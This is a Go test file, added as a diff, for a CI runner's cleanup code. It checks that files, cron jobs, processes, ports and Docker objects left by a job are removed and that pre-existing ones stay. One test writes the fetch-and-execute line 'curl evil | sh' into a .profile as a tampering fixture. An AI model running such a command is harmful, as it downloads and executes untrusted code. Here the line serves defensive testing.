@@ -1,0 +1,245 @@
+package agent
+
+import (
+	"context"
+	"errors"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"syscall"
+	"testing"
+
+	"k8s.io/utils/clock"
+)
+
+// stranger is a user that has no process and no file on any machine of these tests.
+const stranger = 54321
+
+// place is an instance folder and a file system around it, in which jobs of stranger were.
+func place(t *testing.T) (s Scrubber, put func(owner int, path, text string)) {
+	t.Helper()
+	if os.Getuid() != 0 {
+		t.Skip("only root cleans up after another user")
+	}
+	top := t.TempDir()
+	put = func(owner int, path, text string) {
+		t.Helper()
+		path = filepath.Join(top, path)
+		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := errors.Join(os.WriteFile(path, []byte(text), 0o644), os.Lchown(path, owner, owner)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	put(0, "tmp/instance/state", "x")
+	put(stranger, "tmp/instance/scratch/left", "x")
+	return Scrubber{
+		InstanceID: t.Name() + "-none", Root: filepath.Join(top, "tmp/instance"), Empty: []string{"scratch"}, Clock: clock.RealClock{},
+		Levels: map[string]ScrubLevel{"none": ScrubNone, "full": ScrubFull, "once": ScrubTerminate},
+		User:   &RunnerUser{UID: stranger, Name: "stranger", Home: "/people/stranger"}, System: top,
+	}, put
+}
+
+func exists(path string) bool { _, err := os.Lstat(path); return err == nil }
+
+// H42: what each level removes. Nothing of anybody else goes at any of them.
+func TestScrub_Levels_H42(t *testing.T) {
+	for class, want := range map[string]struct{ gone, err bool }{
+		"none": {}, "workspace": {}, "full": {gone: true}, "once": {err: true},
+	} {
+		t.Run(class, func(t *testing.T) {
+			s, put := place(t)
+			put(stranger, "people/stranger/.profile", "of the image")
+			if err := s.TakeBaseline(t.Context()); err != nil {
+				t.Fatal(err)
+			}
+			theirs := []string{
+				"tmp/a", "var/tmp/b", "dev/shm/c", "var/spool/cron/crontabs/stranger", "var/spool/cron/atjobs/d", "run/user/54321/e",
+				"people/stranger/.config/systemd/user/f.service", "tmp/roots-/g",
+			}
+			for _, path := range theirs {
+				put(stranger, path, "x")
+			}
+			put(0, "var/lib/systemd/linger/stranger", "")
+			kept := []string{"tmp/roots-/keep", "var/spool/cron/crontabs/root", "etc/passwd", "people/stranger/.bashrc"}
+			for _, path := range kept {
+				put(0, path, "x")
+			}
+			err := s.Scrub(t.Context(), class)
+			if (err != nil) != want.err || errors.Is(err, ErrUsedUp) != want.err {
+				t.Fatalf("Scrub = %v, want ErrUsedUp: %v", err, want.err)
+			}
+			for _, path := range append(theirs, "var/lib/systemd/linger/stranger") {
+				if exists(filepath.Join(s.System, path)) == want.gone {
+					t.Errorf("%s is there: %v, want %v", path, !want.gone, want.gone)
+				}
+			}
+			for _, path := range append(kept, "people/stranger/.profile", "tmp/instance/state") {
+				if !exists(filepath.Join(s.System, path)) {
+					t.Errorf("%s is gone, and was not the run's", path)
+				}
+			}
+			if got := exists(filepath.Join(s.Root, "scratch/left")); got == (class == "workspace" || class == "full") {
+				t.Errorf("the instance's home holds the run's file: %v", got)
+			}
+		})
+	}
+}
+
+// H42: a file of the image that a job changed cannot be restored.
+func TestScrub_ChangedHome_NotClean_H42(t *testing.T) {
+	s, put := place(t)
+	put(stranger, "people/stranger/.profile", "of the image")
+	if err := s.TakeBaseline(t.Context()); err != nil {
+		t.Fatal(err)
+	}
+	put(stranger, "people/stranger/.profile", "curl evil | sh")
+	if err := s.Scrub(t.Context(), "full"); !errors.Is(err, ErrNotClean) || !strings.Contains(err.Error(), ".profile was changed") {
+		t.Errorf("Scrub = %v, want ErrNotClean because of .profile", err)
+	}
+}
+
+// H42: processes of the user that nothing else marks are ended; the ones from before live.
+func TestScrub_ProcessesOfTheUser_H42(t *testing.T) {
+	s, _ := place(t)
+	daemon := func() *exec.Cmd {
+		cmd := exec.Command("sleep", "600")
+		cmd.Env = []string{"NOTHING=1"}
+		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Credential: &syscall.Credential{Uid: stranger, Gid: stranger}}
+		if err := cmd.Start(); err != nil {
+			t.Fatal(err)
+		}
+		return cmd
+	}
+	before := daemon()
+	defer func() { _ = before.Process.Kill(); _ = before.Wait() }()
+	if err := s.TakeBaseline(t.Context()); err != nil {
+		t.Fatal(err)
+	}
+	of := daemon()
+	if err := s.Scrub(t.Context(), "workspace"); err != nil {
+		t.Fatalf("Scrub = %v", err)
+	}
+	if err := of.Wait(); err == nil {
+		t.Error("the run's process ended by itself")
+	}
+	if err := before.Process.Signal(syscall.Signal(0)); err != nil {
+		t.Errorf("the process from before the first run: %v", err)
+	}
+}
+
+// H42: a port on which something listens after the run, and not before, is seen.
+func TestPorts_SeesListeners_H42(t *testing.T) {
+	s := Scrubber{Whole: true, User: &RunnerUser{UID: os.Getuid()}}
+	for _, address := range []string{"127.0.0.1:0", "[::1]:0"} {
+		l, err := net.Listen("tcp", address)
+		if err != nil {
+			t.Logf("not tried: listen on %s: %v", address, err)
+			continue
+		}
+		want := strings.NewReplacer("[", "", "]", "").Replace(l.Addr().String())
+		for _, whole := range []bool{true, false} {
+			s.Whole = whole
+			if got, err := s.ports(); err != nil || !slices.Contains(got, want) {
+				t.Errorf("ports = %v, %v, want %s among them", got, err, want)
+			}
+		}
+		if err := l.Close(); err != nil {
+			t.Fatal(err)
+		}
+		if got, err := s.ports(); err != nil || slices.Contains(got, want) {
+			t.Errorf("ports = %v, %v, want %s gone", got, err, want)
+		}
+	}
+}
+
+// A baseline with more space, or fewer ports, than there are now.
+func TestCheck_AgainstBaseline_H42(t *testing.T) {
+	s := Scrubber{Root: t.TempDir(), Whole: true}
+	for range 20 { // tests of other packages open ports meanwhile
+		now, err := s.measure(t.Context())
+		if err != nil {
+			t.Fatal(err)
+		}
+		now.Containers = nil
+		if err = s.check(now); err != nil && !strings.Contains(err.Error(), "listens") {
+			t.Fatalf("check of an unchanged machine = %v", err)
+		}
+		now.Free *= 3
+		if err = s.check(now); err != nil && strings.HasPrefix(err.Error(), "disk: ") {
+			return
+		}
+	}
+	t.Error("check never complained of a disk that is two thirds full of something new")
+}
+
+// dockerStandIn keeps names in files below a folder, and removes them as docker does.
+const dockerStandIn = `#!/bin/sh
+cd "$(dirname "$0")" || exit 1
+case "$*" in
+info*) [ ! -e stopped ] && echo engine ;;
+"ps "*) ls containers ;;
+"volume ls"*) ls volumes ;;
+"network ls"*) ls networks ;;
+"rm --force --volumes "*) shift 3; cd containers && rm "$@" ;;
+"volume rm --force "*) shift 3; cd volumes && for v; do [ -e ../busy ] && { echo "volume is in use" >&2; exit 1; }; rm "$v"; done ;;
+"network rm "*) shift 2; cd networks && rm "$@" ;;
+*) echo "unknown: $*" >&2; exit 2 ;;
+esac
+`
+
+// H42: containers, volumes and networks of runs go, those from before stay; an engine that cannot be
+// asked, or keeps something, is not clean.
+func TestContainers_H42(t *testing.T) {
+	dir := t.TempDir()
+	touch := func(names ...string) {
+		t.Helper()
+		for _, n := range names {
+			path := filepath.Join(dir, n)
+			if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o755), os.WriteFile(path, nil, 0o644)); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}
+	touch("containers/mirror", "volumes/cache", "networks/own")
+	ctx := context.Background()
+	t.Setenv("PATH", dir+":/usr/bin:/bin")
+	if err := os.WriteFile(filepath.Join(dir, engine), []byte(dockerStandIn), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	was, err := listContainers(ctx)
+	if err != nil || was == nil || len(was.Containers) != 1 {
+		t.Fatalf("listContainers = %+v, %v, want one of each", was, err)
+	}
+	touch("containers/c1", "containers/c2", "volumes/v1", "networks/n1")
+	if err := removeContainers(ctx, was); err != nil {
+		t.Fatalf("removeContainers = %v", err)
+	}
+	for name, want := range map[string]bool{
+		"containers/mirror": true, "volumes/cache": true, "networks/own": true,
+		"containers/c1": false, "containers/c2": false, "volumes/v1": false, "networks/n1": false,
+	} {
+		if exists(filepath.Join(dir, name)) != want {
+			t.Errorf("%s is there: %v, want %v", name, !want, want)
+		}
+	}
+	touch("volumes/v2", "networks/n2", "busy")
+	if err := removeContainers(ctx, was); err == nil || !strings.Contains(err.Error(), "v2") || !strings.Contains(err.Error(), "in use") {
+		t.Errorf("removeContainers with a volume in use = %v", err)
+	}
+	touch("stopped")
+	if err := removeContainers(ctx, was); err == nil || !strings.Contains(err.Error(), "does not answer") {
+		t.Errorf("removeContainers without an engine = %v", err)
+	}
+	if err := removeContainers(ctx, nil); err != nil {
+		t.Errorf("removeContainers where there never was one = %v", err)
+	}
+	t.Setenv("PATH", "/nowhere")
+	if got, err := listContainers(ctx); got != nil || err != nil {
+		t.Errorf("listContainers without a program = %v, %v", got, err)
+	}
+}
